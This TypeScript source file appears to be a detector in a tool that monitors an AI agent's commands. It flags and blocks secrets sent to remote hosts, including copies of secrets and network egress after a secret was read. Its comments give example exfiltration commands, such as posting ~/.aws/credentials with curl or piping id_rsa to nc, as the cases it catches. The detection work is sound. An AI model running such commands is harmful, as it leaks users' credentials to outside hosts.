// Data leaving the machine after, or together with, a secret: the sequence gateways cannot see.
// Taint spreads: a file a secret was copied into carries it, and so do distinctive words of the
// secret's content (remembered in the shared session state from the redacted Read result).
import type { Detector, Finding } from '../detector.js';
import { isAllowedHost, isLocalHost, type Egress } from '../command/egress.js';
import type { SecretRead } from '../facts.js';
import { secretDirsAmong, secretsAmong } from '../secret-paths.js';
import { isOwnService } from '../command/secret-stores.js';
import { CLOUD_CLIS } from '../command/cloud-storage.js';
import { displayPath, isWithin } from '../paths.js';
import type { SessionState, TaintedFile } from '../session-state.js';
import { ENVIRONMENT_COPY, taintedWithin, taintOf } from '../sequence/taint.js';
import { egressAfterSecret } from '../sequence/egress-after-secret.js';
import { vendorTokenHomes } from './token-egress.js';

/** To a bucket through a cloud storage CLI: exfiltration to cloud storage; anything else: over another protocol. */
const techniqueOf = (e: Egress) => (CLOUD_CLIS.has(e.tool.split(' ')[0]!) ? 'T1567.002' : 'T1048');
const where = (e: Egress) => `${e.host}${e.port !== undefined ? `:${e.port}` : ''}`;
const reach = (e: Egress) => (e.publishes ? 'where others can read it' : 'a host outside this machine');

export const exfiltration: Detector = {
  name: 'exfiltration',
  judges: 'intent',
  evaluate({ event, facts, session, ctx }) {
    const isRemote = (e: Egress) => !isLocalHost(e.host) && !isAllowedHost(e.host, ctx.egressAllow);
    const fetched = fetchCarryingSecret(facts.fetches, session, isRemote, event.id);
    if (fetched) return [fetched];
    // What carries a secret out: a remote host, or a publishing service even on an allowlisted host.
    const carriesOut = (e: Egress) => isRemote(e) || e.publishes === true;
    // A package published is in `sent` only: what it carries counts, not that it talks to a registry.
    const carriers = facts.egress.filter(carriesOut);
    const out = [...carriers, ...facts.sent.filter((p) => p.published).map((p) => p.egress).filter(carriesOut)];
    if (out.length === 0) return [];
    const remote = facts.egress.filter(isRemote);
    const findings: Finding[] = [];
    // 1. The command itself carries a secret: `curl -d @~/.aws/credentials …`, `cat id_rsa | nc host`.
    // Not what the line only shows (`cat .env; curl -sI …`): that is weighed below, as a read before the call.
    const shown = facts.shownOnly === undefined ? undefined : new Set(facts.shownOnly);
    const inline = shown === undefined ? facts.secrets : facts.secrets.filter((s) => !shown.has(s.abs));
    const piped = facts.sent.filter((p) => carriesOut(p.egress))
      .flatMap((p) => [...secretsAmong(p.paths, ctx, event.id), ...secretDirsAmong(p.paths, ctx, event.id)].map((s) => ({ s, e: p.egress })));
    // A token used with the service that issued it in the same command is used, not sent out. A secret the line
    // reads goes with a publish only when it is inside what is published (`source .env && npm publish` reads it for the token).
    // Variables loaded from a file and expanded for the vendor whose key they name are the key used where it belongs
    // (`source .env && curl -H "x-api-key: $ANTHROPIC_API_KEY" https://api.anthropic.com/…`).
    const loaded = facts.loadedOnly === undefined ? undefined : new Set(facts.loadedOnly);
    const vendorHome = loaded === undefined ? undefined : vendorTokenHomes(event.command);
    const carrierOf = (s: SecretRead) => carriers.find((e) => !isOwnService(s, e.host) && !(loaded?.has(s.abs) === true && vendorHome!(e.host)));
    const carried = inline.length > 0 ? inline.flatMap((s) => { const e = carrierOf(s); return e ? [{ s, e }] : []; }) : piped;
    for (const { s, e } of carried) {
      findings.push({
        rule: 'secret-exfiltration', severity: 'critical', tactic: 'exfiltration', technique: techniqueOf(e),
        title: `Secret sent to ${e.host}`,
        reason: `The command sends ${s.path} (${s.label}) with ${e.tool} to ${where(e)}, ${reach(e)}.`,
        evidence: [event.id], key: `${s.path}->${e.host}`, block: true,
      });
    }
    // 1b. …or a file a secret was copied into earlier (`cp ~/.aws/credentials /tmp/x`, then `curl -T /tmp/x`), or the
    // environment earlier on this line (`env > /tmp/e; curl -T /tmp/e …`).
    const sending = facts.sent.filter((p) => carriesOut(p.egress));
    const sentPaths = new Set([...(carriers.length > 0 ? facts.reads : []), ...sending.flatMap((p) => p.paths)]);
    // …or a directory sent whole that holds such a copy (`scp -r lib host:`, `npm publish` of the project). Not a
    // `git push`, which sends what was committed: whether the copy was is secret-commit's to judge.
    const environmentFiles = (facts.environmentTo ?? []).map((path): TaintedFile => ({ path, from: ENVIRONMENT_COPY, eventIds: [event.id] }));
    const whole = sending.filter((p) => !p.committed);
    // A publish does not carry the secrets its line reads (above), only a copy made into what it publishes.
    const copiedNow = whole.some((p) => p.published) && facts.secrets.length > 0 ? taintOf(event, facts, session) : [];
    const candidates = [...session.tainted, ...environmentFiles, ...copiedNow];
    const inSentDirs = new Set(taintedWithin(candidates, whole.flatMap((p) => p.paths)));
    for (const t of candidates) {
      if (!sentPaths.has(t.path) && !inSentDirs.has(t)) continue;
      // The sender whose paths hold it; a file the line reads goes with its network command.
      const e = sending.find((p) => p.paths.some((d) => d === t.path || (!p.committed && isWithin(t.path, d))))?.egress ?? carriers[0] ?? out[0]!;
      const shown = displayPath(t.path, ctx.home);
      findings.push({
        rule: 'secret-exfiltration', severity: 'critical', tactic: 'exfiltration', technique: techniqueOf(e),
        title: `Copy of a secret sent to ${e.host}`,
        reason: `The command sends ${shown}, which holds a copy of ${t.from}, with ${e.tool} to ${where(e)}, ${reach(e)}.`,
        evidence: [...new Set([...t.eventIds, event.id])], key: `${shown}->${e.host}`, block: true,
      });
    }
    if (findings.length > 0) return findings;
    // 2. Taint: the session read a secret earlier (or this line read one it does not send), and now talks to an
    // unknown host (not the one service every token it read is for).
    const reads = [...session.secretReads, ...facts.secrets];
    if (reads.length === 0) return [];
    const otherServices = remote.filter((r) => !reads.every((s) => isOwnService(s, r.host)));
    const { to: suspect, named, token, speculative } = egressAfterSecret(event, facts, otherServices, session.secretReads, session.secretTokens, facts.secrets);
    if (suspect.length === 0) return [];
    const e = suspect[0]!;
    const last = reads[reads.length - 1]!;
    const carries = token ? `, and the command carries text from ${token.path}` : '';
    const when = session.secretReads.length === 0 ? 'This command reads' : 'This session read';
    return [{
      rule: 'egress-after-secret-read', severity: named || token ? 'critical' : speculative ? 'medium' : 'high', tactic: 'exfiltration', technique: 'T1048',
      title: `Network egress to ${e.host} after reading ${last.label}`,
      reason: `${when} ${[...new Set(reads.map((r) => r.path))].join(', ')} and ${session.secretReads.length === 0 ? 'then' : 'now'} runs ${e.tool} to ${where(e)}, which is neither local nor allowlisted${carries}: the secret may be leaving.`,
      evidence: [...new Set([...reads.map((r) => r.eventId), ...(token ? [token.eventId] : []), event.id])], key: e.host, block: !speculative,
    }];
  },
};

/**
 * A fetch tool's URL after a secret read: a GET sends only what its URL holds, so it counts when the URL
 * holds the secret: text the redactor masked in it, or a distinctive word of the secret's content. A plain
 * fetch (the docs page the agent looks up after reading a .env) is not egress of anything.
 */
function fetchCarryingSecret(fetches: readonly Egress[] | undefined, session: Readonly<SessionState>, isRemote: (e: Egress) => boolean, eventId: string): Finding | undefined {
  if (fetches === undefined || session.secretReads.length === 0) return undefined;
  for (const f of fetches.filter(isRemote)) {
    const token = session.secretTokens.find((k) => f.url!.includes(k.token));
    if (!f.url!.includes('[REDACTED]') && token === undefined) continue;
    const from = token?.path ?? session.secretReads.map((r) => r.path).join(', ');
    return {
      rule: 'secret-exfiltration', severity: 'critical', tactic: 'exfiltration', technique: 'T1048',
      title: `Secret sent to ${f.host} in a URL`,
      reason: `This session read ${from}, and ${f.tool} now requests a URL on ${f.host} that carries ${token ? 'text from it' : 'a secret'}: a fetch that sends the secret out.`,
      evidence: [...session.secretReads.map((r) => r.eventId), ...(token ? [token.eventId] : []), eventId], key: `fetch->${f.host}`, block: true,
    };
  }
  return undefined;
}
